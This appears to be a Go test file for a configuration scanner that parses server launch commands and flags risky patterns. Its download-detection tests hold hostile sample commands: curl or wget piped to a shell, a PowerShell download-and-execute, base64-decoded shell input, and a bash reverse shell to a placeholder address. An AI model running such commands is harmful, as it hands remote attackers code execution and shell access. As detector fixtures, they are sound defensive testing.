package facts_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pacheck/pacheck/loaders/facts"
	"github.com/pacheck/pacheck/loaders/source"
)

// say makes texts that stand nowhere.
func say(texts ...string) []source.Text {
	list := make([]source.Text, len(texts))
	for i, text := range texts {
		list[i] = source.Say(text, source.Place{})
	}
	return list
}

// launch parses a command line of which every element is an argument.
func launch(argv ...string) *facts.Launch {
	all := say(argv...)
	return facts.ParseLaunch(all[0], source.Say(all[1:], source.Place{}))
}

func texts(list []source.Text) string {
	words := make([]string, len(list))
	for i, t := range list {
		words[i] = t.V
	}
	return strings.Join(words, "|")
}

func TestParseLaunchUnwraps(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		argv       []string
	}{
		{"plain", "node: server.js", []string{"node", "server.js"}},
		{"folder and suffix", "node: x", []string{`C:\Program Files\nodejs\node.exe`, "x"}},
		{"quoted Windows path with arguments", "node: x|--y", []string{`"C:\Program Files\nodejs\node.exe" x --y`}},
		{"path with blanks", "my server: x", []string{"/Applications/My App/my server", "x"}},
		{"whole line", "npx: -y|foo", []string{"npx -y foo"}},
		{"line and arguments", "npx: -y|foo|bar", []string{"npx -y", "foo", "bar"}},
		{"quoted variable", "x.sh: ", []string{`"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh`}},
		{"placeholder", "x: ", []string{"${CLAUDE_PLUGIN_ROOT}/x"}},
		{"template expression", "npx: ${{ inputs.pkg }}", []string{"npx ${{ inputs.pkg }}"}},
		{"cmd", "npx: -y|foo < cmd /c", []string{"cmd", "/c", "npx", "-y", "foo"}},
		{"cmd with one string", "npx: -y|foo < cmd /c", []string{"cmd.exe", "/d", "/s", "/C", "npx -y foo"}},
		{"cmd keeps an ampersand in an address", "npx: x|https://h.example/?a=1&b=2 < cmd /c", []string{"cmd", "/c", "npx x https://h.example/?a=1&b=2"}},
		{"npx.cmd", "npx: foo", []string{"npx.cmd", "foo"}},
		{"sh -c", "server: --flag < sh -c|exec", []string{"sh", "-c", "exec server --flag"}},
		{"bash -lc", "npx: -y|foo < bash -lc", []string{"bash", "-lc", "npx -y foo"}},
		{"bash -o pipefail -c", "npx: foo < bash -c", []string{"bash", "-o", "pipefail", "-c", "npx foo 2>/dev/null"}},
		{"arguments passed on", "npx: foo < sh -c|exec", []string{"sh", "-c", `exec "$@"`, "sh", "npx", "foo"}},
		{"script file", "bash: run.sh|-c", []string{"bash", "run.sh", "-c"}},
		{"powershell", "npx: foo < powershell -command", []string{"powershell.exe", "-NoProfile", "-Command", "npx foo"}},
		{"powershell call operator", "y: z < pwsh -c", []string{"pwsh", "-c", "& 'c:/x/y' z"}},
		{"powershell file", "pwsh: -File|x.ps1", []string{"pwsh", "-File", "x.ps1"}},
		{"env", "node: x < env", []string{"env", "-u", "B", "A=b", "node", "x"}},
		{"env -S", "node: x < env", []string{"/usr/bin/env", "-S", "node x"}},
		{"sudo", "docker: ps < sudo", []string{"sudo", "-E", "-u", "bob", "docker", "ps"}},
		{"timeout", "node: x < timeout", []string{"timeout", "-k", "5", "30", "node", "x"}},
		{"op run", "npx: foo < op run", []string{"op", "run", "--env-file=.env", "--", "npx", "foo"}},
		{"doppler", "npx: foo < doppler run", []string{"doppler", "run", "-p", "x", "--", "npx", "foo"}},
		{"infisical", "npx: foo < infisical run", []string{"infisical", "run", "--env", "dev", "--", "npx", "foo"}},
		{"dotenv", "npx: foo < dotenv", []string{"dotenv", "-e", ".env", "--", "npx", "foo"}},
		{"python-dotenv", "npx: foo < dotenv", []string{"dotenv", "-f", ".env", "run", "--", "npx", "foo"}},
		{"aws-vault", "npx: foo < aws-vault exec", []string{"aws-vault", "exec", "prod", "--", "npx", "foo"}},
		{"chamber", "npx: foo < chamber exec", []string{"chamber", "exec", "a", "b", "--", "npx", "foo"}},
		{"mise", "npx: foo < mise exec", []string{"mise", "exec", "node@20", "--", "npx", "foo"}},
		{"uv run", "python: x.py < uv run", []string{"uv", "--directory", "d", "run", "--with", "mcp", "python", "x.py"}},
		{"wsl", "npx: foo < wsl|bash -c", []string{"wsl.exe", "-d", "Ubuntu", "bash", "-c", "npx foo"}},
		{"nested", "npx: foo < cmd /c|env", []string{"cmd", "/c", "env", "A=b", "npx", "foo"}},
		{"other verb", "op: item|get|x", []string{"op", "item", "get", "x"}},
		{"env alone", "env: ", []string{"env"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := launch(tc.argv...)
			got := l.Program + ": " + texts(l.Args)
			if len(l.Wrappers) > 0 {
				got += " < " + strings.Join(l.Wrappers, "|")
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Error(diff)
			}
			if l.Shell != nil {
				t.Errorf("opaque: %v", l.Shell.Reasons)
			}
		})
	}
}

func TestParseLaunchWithoutCommand(t *testing.T) {
	if l := facts.ParseLaunch(source.Text{}, source.Texts{}); l != nil {
		t.Errorf("got %+v", l)
	}
}

func TestParseLaunchEnvironment(t *testing.T) {
	l := launch("sh", "-c", "A=1 env B=2 docker run -e C -e D=4 img")
	var got []string
	for _, v := range l.Env {
		got = append(got, v.Key.V+"="+v.Value.V)
	}
	if diff := cmp.Diff([]string{"A=1", "B=2", "C=", "D=4"}, got); diff != "" {
		t.Error(diff)
	}
	if l.Env[1].InContainer || !l.Env[3].InContainer || l.Env[2].Value.Set {
		t.Errorf("got %+v", l.Env)
	}
}

func TestParseLaunchInlineCode(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		argv       []string
	}{
		{"node -e", "node -e", []string{"node", "-e", "require('./s')"}},
		{"node --eval=", "node --eval", []string{"node", "--eval=1"}},
		{"node after options", "node -p", []string{"node", "-r", "x", "--no-warnings", "-p", "1"}},
		{"python", "python3 -c", []string{"python3", "-c", "x()"}},
		{"python version and cluster", "python3.12 -c", []string{"python3.12", "-uc", "x()"}},
		{"perl", "perl -e", []string{"perl", "-we", "1"}},
		{"deno eval", "deno eval", []string{"deno", "eval", "1"}},
		{"uvx python", "python -c", []string{"uvx", "--from", "mcp==1.0.0", "python", "-c", "x()"}},
		{"uv run python", "python -c", []string{"uv", "run", "python", "-c", "x()"}},
		{"in a shell", "node -e", []string{"sh", "-c", "node -e 'require(1)'"}},
		{"option of the script", "", []string{"python", "server.py", "-c", "config"}},
		{"option of the module", "", []string{"python", "-m", "server", "-c", "config"}},
		{"other program", "", []string{"server", "-e", "x"}},
		{"script", "", []string{"node", "./dist/index.js", "-p", "80"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := ""
			if in := launch(tc.argv...).Inline; in != nil {
				got = in.Program + " " + in.Flag
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestParseLaunchDownloads(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		argv       []string
	}{
		{"pipe to shell", "pipe_to_shell", []string{"sh", "-c", "curl -s https://x.example/m | sh"}},
		{"powershell", "pipe_to_shell_ps", []string{"powershell", "irm https://x.example/i.ps1 | iex"}},
		{"hook", "pipe_to_shell", []string{"curl -s https://x.example/s | sh"}},
		{"in an argument of a container", "pipe_to_shell", []string{"docker", "run", "img", "sh", "-c", "wget -qO- https://x.example | bash"}},
		{"decode", "decode_to_shell", []string{"bash", "-c", "echo aGk= | base64 -d | bash"}},
		{"reverse shell", "reverse_shell", []string{"bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}},
		{"curl", "remote_program x.example", []string{"curl", "-N", "-H", "A: b", "https://x.example/sse"}},
		{"ssh", "remote_program host.example", []string{"ssh", "-i", "key", "me@host.example", "server"}},
		{"nc", "remote_program h.example", []string{"nc", "h.example", "4444"}},
		{"socat", "remote_program h.example", []string{"socat", "STDIO", "TCP:h.example:4444"}},
		{"tarball", "tarball x.example", []string{"npx", "-y", "https://x.example/p.tgz"}},
		{"remote script", "remote_script x.example", []string{"deno", "run", "-A", "https://x.example/mod.ts"}},
		{"bun", "remote_script x.example", []string{"bun", "run", "https://x.example/mod.ts"}},

		{"tarball with integrity", "", []string{"npx", "-y", "https://x.example/p.tgz#sha512-abc"}},
		{"remote script with version", "", []string{"deno", "run", "https://deno.land/x/foo@v1.2.3/mod.ts"}},
		{"loopback", "", []string{"curl", "http://localhost:8080/sse"}},
		{"loopback socket", "", []string{"socat", "-", "TCP:127.0.0.1:4444"}},
		{"unix socket", "", []string{"socat", "STDIO", "UNIX-CONNECT:/run/x.sock"}},
		{"variable", "", []string{"ssh", "${HOST}", "server"}},
		{"proxy", "", []string{"npx", "-y", "mcp-remote@0.1.16", "https://mcp.example/sse"}},
		{"jq", "", []string{"sh", "-c", "curl https://x.example | jq ."}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, d := range launch(tc.argv...).Downloads {
				got = append(got, strings.TrimSpace(d.Kind+" "+d.Host))
			}
			if diff := cmp.Diff(tc.want, strings.Join(got, ", ")); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestParseLaunchPathsAndBinds(t *testing.T) {
	for _, tc := range []struct {
		name, paths, binds string
		argv               []string
	}{
		{"file-system server", "/ root true|./docs", "", []string{"npx", "-y", "@modelcontextprotocol/server-filesystem@1.0.0", "/", "./docs"}},
		{"home", "$HOME home true", "", []string{"node", "node_modules/server-filesystem/dist/index.js", "$HOME"}},
		{"allowed dirs", "~/.ssh credentials|./a", "", []string{"server", "--allowed-dirs=~/.ssh,./a"}},
		{"workspace", "${workspaceFolder}", "", []string{"server", "--root", "${workspaceFolder}"}},
		{"container paths are the image's", "", "", []string{"docker", "run", "mcp/filesystem", "/", "--root", "/"}},
		{"other server", "", "", []string{"npx", "x@1.0.0", "/"}},
		{"all interfaces", "", "--host 0.0.0.0", []string{"server", "--host", "0.0.0.0", "--port", "3000"}},
		{"with port", "", "--listen [::]:80", []string{"server", "--listen=[::]:80"}},
		{"loopback", "", "", []string{"server", "--host", "127.0.0.1"}},
		{"published", "", "-p 8080:80", []string{"docker", "run", "-p", "8080:80", "img"}},
		{"published on loopback", "", "", []string{"docker", "run", "-p127.0.0.1:3000:3000", "img"}},
		{"in a container", "", "--host 0.0.0.0", []string{"docker", "run", "img", "--host", "0.0.0.0"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := launch(tc.argv...)
			var paths, binds []string
			for _, p := range l.Paths {
				paths = append(paths, strings.TrimSpace(p.Path+" "+p.Class+map[bool]string{true: " true"}[p.Root]))
			}
			for _, b := range l.Binds {
				binds = append(binds, b.Flag+" "+b.Address)
			}
			if diff := cmp.Diff([]string{tc.paths, tc.binds}, []string{strings.Join(paths, "|"), strings.Join(binds, "|")}); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// readJSON parses a JSON file in memory.
func readJSON(t *testing.T, text string) *source.Node {
	t.Helper()
	f := source.Read("x.json", []byte(text))
	f.Syntax = source.JSON
	f.Parse()
	if f.Root == nil {
		t.Fatal(f.Err)
	}
	return f.Root
}

func TestParseLaunchPlaces(t *testing.T) {
	root := readJSON(t, "{\"command\": \"sh\",\n \"args\": [\"-c\", \"A=\\\"b\\\" npx -y foo@latest\"]}")
	l := facts.ParseLaunch(root.Get("command").Field(), root.Get("args").Texts())
	got := []string{l.Package.At.Raw(), l.Package.At.Location().String(), l.Env[0].Value.At.Raw()}
	if diff := cmp.Diff([]string{"foo@latest", "x.json:2:33", `\"b\"`}, got); diff != "" {
		t.Error(diff)
	}
}

func FuzzLaunch(f *testing.F) {
	for _, seed := range []string{
		"npx\x00-y\x00foo", "sh\x00-c\x00a | b", "docker\x00run\x00-v\x00/:/x\x00img", "cmd\x00/c\x00npx x & y", "env\x00-S\x00a b",
		"powershell\x00-c\x00& 'x'; y", "uvx\x00--from\x00git+https://h/x@y\x00z", "curl\x00-H\x00a\x00http://[::1]", "bash\x00-c\x00((((((", "a ${b:-$(c)} <X> {{d}}",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		all := say(strings.Split(line, "\x00")...)
		l := facts.ParseLaunch(all[0], source.Say(all[1:], source.Place{}))
		if (l == nil) != (strings.TrimSpace(all[0].V) == "") {
			t.Fatalf("got %v", l)
		}
		if l != nil && l.Shell != nil && len(l.Shell.Reasons) == 0 {
			t.Fatal("a shell without reason")
		}
		env := []facts.EnvVar{{Key: source.Say("PATH", source.Place{}), Value: all[0]}, {Key: source.Say("NODE_PATH", source.Place{}), Value: all[0]}}
		facts.TLSOff(env, all)
		facts.LoaderOverrides(env)
	})
}
